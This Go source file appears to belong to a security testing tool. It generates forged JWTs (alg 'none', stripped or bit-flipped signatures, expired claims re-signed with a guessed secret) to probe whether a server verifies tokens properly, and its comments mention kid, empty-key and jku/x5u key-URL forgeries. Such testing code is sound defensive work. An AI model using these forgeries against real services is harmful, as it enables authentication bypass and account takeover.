package jwt

import (
	"fmt"
	"time"
)

// Tampering names one way of forging a token. A server that accepts the
// forged token does not verify what it should.
type Tampering string

// The tamperings the token-tampering oracle sends.
const (
	// AlgNone rewrites the header to alg "none" with an empty signature
	// (CVE-2015-9235 and its many cousins).
	AlgNone Tampering = "alg-none"
	// StrippedSignature keeps header and claims and drops the signature.
	StrippedSignature Tampering = "stripped-signature"
	// AlteredSignature flips bits of the signature.
	AlteredSignature Tampering = "altered-signature"
	// ExpiredClaims moves exp an hour into the past. When the signing
	// secret is known (it was guessed) the token is re-signed so that only
	// the expiry is wrong; otherwise the original signature stays and the
	// token is also forged.
	ExpiredClaims Tampering = "expired"
)

// Tamperings lists every tampering in the order they are tried.
func Tamperings() []Tampering {
	return []Tampering{AlgNone, StrippedSignature, AlteredSignature, ExpiredClaims}
}

// Forged is a tampered token and what was done to it.
type Forged struct {
	Tampering Tampering
	Token     string
	// Resigned is true when an ExpiredClaims token carries a valid
	// signature (the secret was known).
	Resigned bool
	// Note says in a few words which variant of the tampering this is and
	// what signs it, for a report (e.g. `kid "/dev/null", empty HMAC
	// key`); empty for the basic tamperings of Tamper.
	Note string
	// Key is the HMAC secret the forgery is signed with; not nil but empty
	// for the empty key. Nil when the forgery is unsigned, keeps a
	// signature it cannot match, or is signed with an RSA key (the
	// AttackerKey).
	Key []byte
	// Header and Claims are the forgery's header and claims as encoded in
	// Token.
	Header map[string]any
	Claims map[string]any
	// URL, when not empty, is the key URL the forgery's header names (jku
	// or x5u): the forgery can only be accepted if a GET of URL answers
	// Document with ContentType. The caller serves it (fuzz/canary).
	URL         string
	Document    []byte
	ContentType string
}

// Tamper builds the forged variants of t. secret, when not nil, is the
// token's known HMAC secret, used to re-sign the expired variant. now is
// the reference time for the expired exp (the run's clock, so tests are
// deterministic).
func Tamper(t *Token, secret []byte, now time.Time) ([]Forged, error) {
	var out []Forged
	for _, kind := range Tamperings() {
		f, err := tamper(t, kind, secret, now)
		if err != nil {
			return nil, fmt.Errorf("tamper %s: %w", kind, err)
		}
		out = append(out, f)
	}
	return out, nil
}

func tamper(t *Token, kind Tampering, secret []byte, now time.Time) (Forged, error) {
	switch kind {
	case AlgNone:
		h := copyMap(t.Header)
		h["alg"] = "none"
		hs, err := encodeJSON(h)
		if err != nil {
			return Forged{}, err
		}
		return Forged{Tampering: kind, Token: hs + "." + t.rawClaims + ".", Header: h, Claims: copyMap(t.Claims)}, nil
	case StrippedSignature:
		return Forged{Tampering: kind, Token: t.SigningInput() + ".", Header: copyMap(t.Header), Claims: copyMap(t.Claims)}, nil
	case AlteredSignature:
		sig := append([]byte(nil), t.Signature...)
		if len(sig) == 0 {
			sig = []byte{0}
		}
		for i := range sig {
			sig[i] ^= 0x5a
		}
		return Forged{Tampering: kind, Token: t.SigningInput() + "." + b64.EncodeToString(sig), Header: copyMap(t.Header), Claims: copyMap(t.Claims)}, nil
	case ExpiredClaims:
		c := copyMap(t.Claims)
		c["exp"] = now.Add(-time.Hour).Unix()
		if iat, ok := c["iat"]; ok && iat != nil {
			c["iat"] = now.Add(-2 * time.Hour).Unix()
		}
		if _, ok := c["nbf"]; ok {
			c["nbf"] = now.Add(-2 * time.Hour).Unix()
		}
		if secret != nil && t.IsHMAC() {
			tok, err := Sign(t.Header, c, secret)
			if err != nil {
				return Forged{}, err
			}
			return Forged{Tampering: kind, Token: tok, Resigned: true, Key: append([]byte{}, secret...), Header: copyMap(t.Header), Claims: c}, nil
		}
		cs, err := encodeJSON(c)
		if err != nil {
			return Forged{}, err
		}
		return Forged{Tampering: kind, Token: t.rawHeader + "." + cs + "." + t.rawSig, Header: copyMap(t.Header), Claims: c}, nil
	}
	return Forged{}, fmt.Errorf("unknown tampering %q", kind)
}
